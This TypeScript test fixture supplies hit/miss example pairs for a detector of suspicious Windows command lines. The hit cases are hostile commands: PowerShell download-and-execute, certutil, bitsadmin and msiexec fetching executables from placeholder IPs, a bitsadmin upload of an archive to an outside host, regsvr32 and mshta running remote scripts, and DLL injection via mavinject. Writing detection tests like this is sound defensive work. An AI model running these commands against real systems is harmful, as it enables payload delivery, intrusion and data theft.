import type { Examples } from "../example.ts";
import { inArea, scripts, start, starts } from "./build.ts";

const BLOB = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA";
const PS_FILE = String.raw`powershell.exe -NoProfile -ExecutionPolicy Bypass`;

export const EXECUTION_EXAMPLES: Examples = inArea({
  "code-downloaded-and-run": scripts(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.6/a')",
    "(New-Object Net.WebClient).DownloadString('http://localhost/version')",
  ),
  "encoded-powershell": starts(
    `powershell.exe -enc ${BLOB}`,
    String.raw`powershell.exe -File C:\scripts\export.ps1 -Encoding utf8`,
  ),
  "obfuscated-code": scripts(
    "$a=[char]105+[char]101+[char]120+[char]32+$b",
    "$line.Split([char]9)",
  ),
  "code-loaded-from-text": scripts(
    "[Reflection.Assembly]::Load([Convert]::FromBase64String($t))",
    "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
  ),
  "code-loaded-from-file": scripts(
    String.raw`[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\Users\Public\u.dat'))`,
    String.raw`[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\Program Files\Acme\acme.dll'))`,
  ),
  "text-run-as-code": scripts("Invoke-Expression $line", "Invoke-Item $line"),
  "program-downloaded": scripts(
    String.raw`Invoke-WebRequest -Uri http://203.0.113.8/p.exe -OutFile C:\x\p.exe`,
    "Invoke-WebRequest -Uri http://localhost:8080/p.exe",
  ),
  "file-downloaded": starts(
    String.raw`curl.exe -o C:\x\list.txt https://files.example/list.txt`,
    String.raw`curl.exe -o C:\x\health.txt http://localhost:8080/health`,
  ),
  "web-request-by-shell": scripts(
    "Invoke-RestMethod -Uri https://api.example/v1/status",
    "Test-NetConnection api.example -Port 443",
  ),
  "file-fetched-by-system-tool": starts(
    "certutil -urlcache -split -f http://198.51.100.6/b.exe b.exe",
    "certutil -urlcache * delete",
  ),
  "file-fetched-past-shares": starts(
    String.raw`esentutl.exe /y \\203.0.113.9\x\u.exe /d C:\x\u.exe /o`,
    String.raw`esentutl.exe /d D:\mail\priv1.edb`,
  ),
  "file-decoded-by-certutil": starts(
    "certutil -decode blob.txt u.exe",
    "certutil -hashfile u.exe SHA256",
  ),
  "file-encoded-by-certutil": starts(
    String.raw`certutil -encode C:\out\d.7z C:\out\d.txt`,
    String.raw`certutil -verify -urlfetch D:\certs\web.cer`,
  ),
  "powershell-hidden": starts(
    String.raw`powershell.exe -w hidden -File C:\Users\a\u.ps1`,
    String.raw`powershell.exe -w hidden -File "C:\Program Files\Acme\sync.ps1"`,
  ),
  "powershell-past-policy": starts(
    String.raw`${PS_FILE} -File C:\Users\a\u.ps1`,
    String.raw`${PS_FILE} -File "C:\Program Files\Acme\sync.ps1"`,
  ),
  "powershell-policy-set-aside": starts(
    String.raw`${PS_FILE} -File D:\scripts\sync.ps1`,
    String.raw`powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File D:\scripts\sync.ps1`,
  ),
  "mshta-runs-script": starts(
    "mshta.exe http://203.0.113.9/x.hta",
    String.raw`mshta.exe "C:\Program Files\Acme\setup.hta"`,
  ),
  "mshta-runs-page": starts(
    String.raw`mshta.exe D:\x\page.hta`,
    String.raw`mshta.exe "C:\Program Files\Acme\setup.hta"`,
  ),
  "rundll32-runs-script": starts(
    String.raw`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";eval("x")`,
    "rundll32.exe url.dll,FileProtocolHandler https://intranet.example/",
  ),
  "rundll32-runs-file-of-user": starts(
    String.raw`rundll32.exe C:\Users\a\AppData\Local\Temp\9f2.dat,#1`,
    String.raw`rundll32.exe C:\Windows\System32\shimgvw.dll,ImageView_Fullscreen C:\Users\a\pic.png`,
  ),
  "rundll32-starts-another": starts(
    String.raw`rundll32 zipfldr.dll,RouteTheCall C:\Users\Public\pl.exe`,
    "rundll32 shell32.dll,Control_RunDLL desk.cpl",
  ),
  "application-from-web-started": starts(
    "rundll32.exe dfshim.dll,ShOpenVerbApplication https://intranet.example/a.application",
    "rundll32.exe dfshim.dll,CleanOnlineAppCache",
  ),
  "share-of-the-web-opened": starts(
    String.raw`rundll32.exe C:\Windows\System32\davclnt.dll,DavSetCookie files.example http://files.example/team`,
    "rundll32.exe printui.dll,PrintUIEntry /il",
  ),
  "regsvr32-runs-script": starts(
    "regsvr32 /s /n /u /i:http://203.0.113.10/f.sct scrobj.dll",
    String.raw`regsvr32 /s /i:U C:\Windows\System32\shell32.dll`,
  ),
  "regsvr32-loads-file-of-user": starts(
    String.raw`regsvr32 /s C:\Users\a\AppData\Roaming\u.dll`,
    String.raw`regsvr32 /s "C:\Program Files\Acme\acme.dll"`,
  ),
  "installutil-runs-file": starts(
    String.raw`InstallUtil.exe /logfile= /U C:\temp\p.dll`,
    String.raw`InstallUtil.exe /u "C:\Program Files\Acme\svc.exe"`,
  ),
  "regasm-runs-file": starts(
    String.raw`RegAsm.exe /U C:\Users\Public\p.dll`,
    String.raw`RegAsm.exe /codebase "C:\Program Files\Acme\acme.dll"`,
  ),
  "msbuild-runs-file-of-user": starts(
    String.raw`MSBuild.exe C:\Users\Public\b.xml`,
    String.raw`MSBuild.exe C:\Users\dev\source\repos\App\App.sln /p:Configuration=Release`,
  ),
  "developer-tool-runs-code": starts(
    String.raw`cdb.exe -cf C:\x\script.wds notepad.exe`,
    String.raw`cdb.exe -z D:\dumps\app.dmp`,
  ),
  "profile-installed-by-cmstp": starts(
    String.raw`cmstp.exe /s /ns C:\Users\a\AppData\Local\Temp\vpn.inf`,
    String.raw`cmstp.exe /u "C:\Program Files\Acme\vpn.inf"`,
  ),
  "odbcconf-loads-library": starts(
    String.raw`odbcconf.exe /S /A {REGSVR "C:\Users\Public\drv.tmp"}`,
    `odbcconf.exe CONFIGSYSDSN "SQL Server" "DSN=app"`,
  ),
  "library-injected-by-mavinject": starts(
    String.raw`mavinject.exe 4172 /INJECTRUNNING C:\Temp\inj.dll`,
    "mavinject.exe /?",
  ),
  "troubleshooter-runs-code": starts(
    `msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=?"`,
    "msdt.exe -id WindowsUpdateDiagnostic",
  ),
  "started-by-forfiles": starts(
    String.raw`forfiles /p c:\windows /m notepad.exe /c C:\temp\q.exe`,
    String.raw`forfiles /p D:\logs /s /m *.log /d -30 /c "cmd /c del @path"`,
  ),
  "system-tool-runs-code": starts(
    String.raw`pcalua.exe -a C:\Users\Public\u.exe`,
    "verclsid.exe /S /C {0B2C9183-C9FA-4C53-AE21-C900B0C39965}",
  ),
  "console-without-window": starts(
    String.raw`conhost.exe --headless cmd /c C:\Users\Public\l.cmd`,
    "conhost.exe --headless --width 80 --height 30 --signal 0x4 --server 0x5",
  ),
  "installer-from-web": starts(
    "msiexec /q /i http://203.0.113.61:8080/upd.msi",
    String.raw`msiexec /q /i \\fs01\deploy\upd.msi`,
  ),
  "library-loaded-by-installer": starts(
    String.raw`msiexec /y C:\Users\Public\u.dll`,
    String.raw`msiexec /y "C:\Program Files\Acme\acme.dll"`,
  ),
  "installer-of-user": starts(
    String.raw`msiexec /i C:\Users\ann\Downloads\tool.msi`,
    String.raw`msiexec /i C:\Windows\ccmcache\a1\tool.msi /qn`,
  ),
  "style-sheet-run": starts(
    `wmic os get /format:"https://styles.example/x.xsl"`,
    "wmic os get /format:list",
  ),
  "vbscript-of-user-run": starts(
    String.raw`wscript.exe C:\Users\a\Downloads\Invoice.vbs`,
    String.raw`cscript.exe //nologo C:\Windows\System32\slmgr.vbs /dli`,
  ),
  "jscript-of-user-run": starts(
    String.raw`wscript.exe C:\Users\a\AppData\Roaming\doc1.js`,
    String.raw`cscript.exe //nologo "C:\Program Files\Acme\check.js"`,
  ),
  "script-host-runs-script": starts(
    String.raw`cscript.exe //nologo D:\scripts\backup.vbs`,
    String.raw`cscript.exe //nologo "C:\Program Files\Acme\check.vbs"`,
  ),
  "one-line-program-run": starts(
    `python.exe -c "import socket,subprocess;s=socket.socket()"`,
    `python.exe -c "import sys;print(sys.version)"`,
  ),
  "interpreter-runs-staged-file": starts(
    String.raw`python.exe C:\Users\Public\a.py`,
    String.raw`python.exe C:\Users\dev\project\a.py`,
  ),
  "bits-transfer": starts(
    String.raw`bitsadmin /transfer j http://198.51.100.7/c.exe C:\temp\c.exe`,
    "bitsadmin /list /allusers",
  ),
  "bits-command-set": starts(
    String.raw`bitsadmin /setnotifycmdline j C:\temp\c.exe NULL`,
    "bitsadmin /setpriority j HIGH",
  ),
  "bits-upload": starts(
    String.raw`bitsadmin /transfer j /upload http://198.51.100.7/in C:\out\d.7z`,
    String.raw`bitsadmin /transfer j /download http://198.51.100.7/c.exe C:\temp\c.exe`,
  ),
  "bits-transfer-by-powershell": {
    hit: start(
      String.raw`powershell -c Start-BitsTransfer -Source http://198.51.100.7/c.bin -Destination C:\x`,
    ),
    miss: start(
      String.raw`powershell -c Start-BitsTransfer -Source \\fs01\deploy\c.bin -Destination C:\x`,
    ),
  },
});
